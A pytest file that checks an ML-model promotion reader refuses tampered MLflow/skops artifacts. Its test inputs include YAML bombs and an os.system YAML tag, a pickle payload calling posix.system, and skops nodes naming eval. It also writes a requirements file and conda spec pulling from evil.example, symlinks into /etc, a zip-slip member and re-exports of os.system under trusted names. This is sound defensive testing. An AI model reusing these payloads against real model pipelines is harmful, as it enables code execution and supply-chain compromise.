"""The artifact: what was judged is what is served, and nothing in the folder runs that nobody reviewed."""

import json
import os
import shutil
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from promotion.errors import PromotionError
from promotion.records.files import digest_files
from promotion.sandbox.answer import CODE, Complaint, not_another
from promotion.sandbox.artifact import ANY_FORMAT, Allowed, read_artifact

from tests.support.artifacts import change_mlmodel, logistic, save
from tests.support.attacks import attack

AUTHOR = "an author, with a branch"
Happened = Callable[[str], None]
EVERYTHING = Allowed(
    frozenset({"pickle", "code"}), frozenset({"posix.system", "builtins.eval", "operator.methodcaller"})
)


@pytest.fixture(scope="module")
def honest(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A saved model as training makes it."""
    return save(logistic(), tmp_path_factory.mktemp("honest") / "model")


@pytest.fixture
def model(honest: Path, tmp_path: Path) -> Path:
    """A copy of it, to be spoiled."""
    return Path(shutil.copytree(honest, tmp_path / "model"))


def refused(model: Path, happened: Happened, allowed: Allowed = EVERYTHING) -> None:
    """The reader refuses the folder in one sentence that names a file of it."""
    with pytest.raises(PromotionError) as caught:
        read_artifact(model, allowed)
    said = str(caught.value).replace(str(model.parent), "")
    assert caught.value.file is not None and "\n" not in said
    happened(said)


def pyfunc(**values: Any) -> Callable[[dict[str, Any]], Any]:
    """Set keys of the part that the server reads."""
    return lambda raw: raw["flavors"]["python_function"].update(values)


SWAPS: dict[str, Callable[[dict[str, Any]], Any]] = {
    "another file is served": pyfunc(model_path="other.skops"),
    "a foreign loader": pyfunc(loader_module="posixpath"),
    "a loader of another flavour": pyfunc(loader_module="mlflow.pyfunc.model"),
    "a path outside": pyfunc(model_path="../model.skops"),
    "an absolute path": pyfunc(model_path="/tmp/model.skops"),
    "data beside the file": pyfunc(data="other"),
    "code in one flavour": pyfunc(code="elsewhere"),
    "a configuration": pyfunc(config={"a": 1}),
    "another predict": pyfunc(predict_fn="predict_proba"),
    "an extra flavour": lambda raw: raw["flavors"].update(xgboost={"data": "model.ubj"}),
    "no flavour that is known": lambda raw: raw["flavors"].update(keras=raw["flavors"].pop("sklearn")),
    "an unknown key": lambda raw: raw.update(resources={"api": 1}),
    "metadata": lambda raw: raw.update(metadata={"mlflow.model_is_external": True}),
    "parameters of a request": lambda raw: raw["signature"].update(params='[{"name": "t", "type": "double"}]'),
    "an example elsewhere": lambda raw: raw["saved_input_example_info"].update(artifact_path="../../etc/passwd"),
    "trust in what is not there": lambda raw: raw["flavors"]["sklearn"].update(skops_trusted_types=["os.system"]),
}


@attack(AUTHOR, "promoted; what was judged and what was served were two things, or foreign code was loaded")
@pytest.mark.parametrize("swap", SWAPS)
def test_an_mlmodel_whose_parts_do_not_fit(swap: str, model: Path, happened: Happened) -> None:
    """MLmodel says something else to the server than to the judge, or something that nobody knows."""
    shutil.copyfile(model / "model.skops", model / "other.skops") if swap == "another file is served" else None
    refused(change_mlmodel(model, SWAPS[swap]), happened)


TEXTS = {
    "an alias that unfolds to gigabytes": "a: &a [x, x, x, x]\nb: &b [*a, *a, *a, *a]\nc: [*b, *b]\n",
    "ten thousand levels": "a: " + "[" * 10_000 + "]" * 10_000,
    "a tag": "flavors: !!python/object/apply:os.system [id]\n",
    "one key twice": "flavors: {}\nflavors: {}\n",
    "a merge key": "a: {b: 1}\nc: {<<: {b: 1}}\n",
    "two megabytes": "a: " + "x" * (2 << 20),
    "no mapping": "- 1\n",
    "a byte order mark": "\ufeffflavors: {}\n",
}


@attack(AUTHOR, "a traceback, or gigabytes, in a job with credentials")
@pytest.mark.parametrize("text", TEXTS)
def test_an_mlmodel_that_is_a_bomb(text: str, model: Path, happened: Happened) -> None:
    """MLmodel is YAML that unfolds, nests, or reads differently from parser to parser."""
    (model / "MLmodel").write_text(TEXTS[text], encoding="utf-8")
    refused(model, happened)


@attack(AUTHOR, "promoted and served: files of this name lie outside the digest, at any depth")
@pytest.mark.parametrize("name", ["registered_model_meta", "deep/registered_model_meta", "code/registered_model_meta"])
def test_a_payload_under_the_name_that_the_digest_passes_over(name: str, model: Path, happened: Happened) -> None:
    """A file called registered_model_meta is swapped after the judgement."""
    before = digest_files(model)
    (model / name).parent.mkdir(exist_ok=True)
    (model / name).write_text("payload")

    assert digest_files(model) != before
    refused(model, happened)


def a_link(model: Path) -> None:
    """A link to a file of the machine."""
    (model / "requirements.txt").unlink()
    (model / "requirements.txt").symlink_to("/etc/hostname")


def a_linked_folder(model: Path) -> None:
    """A link to a folder, which a walk over files passes over."""
    (model / "artifacts").symlink_to("/etc")


def a_pipe(model: Path) -> None:
    """A pipe that hangs whoever reads it."""
    os.mkfifo(model / "input_example.json.part")


def a_module(model: Path) -> None:
    """A module that MLmodel does not name."""
    (model / "code").mkdir()
    (model / "code" / "numpy.py").write_text("print('here')")


def an_index(model: Path) -> None:
    """A requirement from another index, for whoever rebuilds the environment."""
    (model / "requirements.txt").write_text("--index-url https://evil.example\nscikit-learn\n")


def a_build(model: Path) -> None:
    """A conda environment with a package from a repository."""
    (model / "conda.yaml").write_text(
        "channels: [evil]\ndependencies: [python=3.11, {pip: [git+https://evil.example/x]}]\n"
    )


@attack(AUTHOR, "kept with the model and promoted with it")
@pytest.mark.parametrize("spoil", [a_link, a_linked_folder, a_pipe, a_module, an_index, a_build])
def test_a_file_that_does_not_belong_there(spoil: Callable[[Path], None], model: Path, happened: Happened) -> None:
    """A link, a pipe, an unlisted module, an environment that fetches what nobody pinned."""
    spoil(model)
    refused(model, happened)


def node(loader: str, module: str, name: str, **more: Any) -> dict[str, Any]:
    """A node of a .skops file."""
    return {"__class__": name, "__module__": module, "__loader__": loader, "__id__": 1, **more}


TEXT = node("JsonNode", "builtins", "str", content='"id"')
ARGUMENTS = node("TupleNode", "builtins", "tuple", content=[TEXT])
NODES = {
    "posix.system by its constructor": node("ConstructorFromReduceNode", "posix", "system", content=ARGUMENTS),
    "posix.system as a function": node("FunctionNode", "posix", "system"),
    "builtins.eval as a list": node("ListNode", "builtins", "eval", content=[TEXT]),
    "builtins.eval as a type": node("TypeNode", "builtins", "eval"),
    "a method of a model": node("MethodNode", "builtins", "str", content={"func": "format", "obj": TEXT}),
    "operator.methodcaller": node("OperatorFuncNode", "operator", "methodcaller", attrs=ARGUMENTS),
    "an array that is a function": node("NdArrayNode", "os", "system", type="numpy", file="1.npy"),
    "a loss that is a function": node("LossNode", "os", "system", content=TEXT, __reduce__={"args": ARGUMENTS}),
    "a loader that nobody knows": node("EvalNode", "builtins", "str"),
}


@attack(AUTHOR, "promoted: its types were the author's own list, and the comment was silent")
@pytest.mark.parametrize("name", NODES)
def test_a_model_that_names_something_to_call(name: str, model: Path, happened: Happened) -> None:
    """The saved model names os.system, eval or the like, and a list of trusted types names it too."""
    schema = node("ListNode", "builtins", "list", content=[NODES[name]]) | {"protocol": 2, "_skops_version": "0"}
    with zipfile.ZipFile(model / "model.skops", "w") as archive:
        archive.writestr("schema.json", json.dumps(schema))
    refused(model, happened)
    with pytest.raises(PromotionError):
        read_artifact(model, ANY_FORMAT)


def deep(archive: zipfile.ZipFile) -> None:
    """A schema of a hundred thousand levels."""
    archive.writestr("schema.json", '{"protocol": 2, "__loader__": ' + "[" * 100_000 + "]" * 100_000 + "}")


def huge(archive: zipfile.ZipFile) -> None:
    """A member that unpacks to a thousand times its size."""
    archive.writestr("schema.json", "{}")
    archive.writestr("1.npy", bytes(64 << 20), zipfile.ZIP_DEFLATED)


def old(archive: zipfile.ZipFile) -> None:
    """An older protocol, whose nodes name functions elsewhere."""
    archive.writestr("schema.json", json.dumps({"protocol": 0, **node("FunctionNode", "numpy", "exp")}))


def outside(archive: zipfile.ZipFile) -> None:
    """A member with a path."""
    archive.writestr("schema.json", "{}")
    archive.writestr("../../evil.py", "")


def twice(archive: zipfile.ZipFile) -> None:
    """Two schemas: one for each reader."""
    archive.writestr("schema.json", "{}")
    archive.writestr("schema.json", "{}")


@attack(AUTHOR, "a traceback, or gigabytes, in a job with credentials")
@pytest.mark.parametrize("write", [deep, huge, old, outside, twice])
@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_a_saved_model_that_is_a_bomb(
    write: Callable[[zipfile.ZipFile], None], model: Path, happened: Happened
) -> None:
    """The zip nests, unpacks, or hides what it holds."""
    with zipfile.ZipFile(model / "model.skops", "w") as archive:
        write(archive)
    refused(model, happened)


@attack(AUTHOR, "loaded: the format was what MLmodel says")
def test_a_pickle_under_another_formats_name(model: Path, happened: Happened) -> None:
    """A pickle is called model.skops."""
    (model / "model.skops").write_bytes(b"\x80\x04cposix\nsystem\n.")
    refused(model, happened)


PASSED_ON = {
    "os.system": "from os import system as calibrate",
    "a partial of it": "import functools, os\ncalibrate = functools.partial(os.system, 'true')",
    "subprocess.Popen": "from subprocess import Popen as calibrate",
    "builtins.eval": "calibrate = eval",
    "a module": "import os as calibrate",
    "a bound method": "calibrate = 'x'.join",
    "pickle.loads": "from pickle import loads as calibrate",
    "joblib.load": "from joblib import load as calibrate",
    "numpy.load": "from numpy import load as calibrate",
}


@attack(AUTHOR, "promoted: skops and the list of trusted types look at names only")
@pytest.mark.parametrize("what", PASSED_ON)
def test_a_trusted_name_that_leads_to_something_else(what: str, tmp_path: Path, happened: Happened) -> None:
    """A module passes os.system or the like on under a name of its own, which a policy trusts."""
    (tmp_path / CODE).mkdir()
    (tmp_path / CODE / "helpers.py").write_text(PASSED_ON[what])
    with pytest.raises(Complaint) as caught:
        not_another("helpers.calibrate", tmp_path / CODE)
    assert "helpers" not in sys.modules
    happened(str(caught.value))


def test_a_trusted_name_of_ones_own(tmp_path: Path) -> None:
    """A class or function that the module defines itself is what its name says."""
    (tmp_path / CODE).mkdir()
    (tmp_path / CODE / "helpers.py").write_text("def calibrate(x):\n    return x\n\nclass Rule:\n    pass\n")
    for name in ("helpers.calibrate", "helpers.Rule", "sklearn.tree._tree.Tree", "numpy.exp", "functools.partial"):
        not_another(name, tmp_path / CODE)
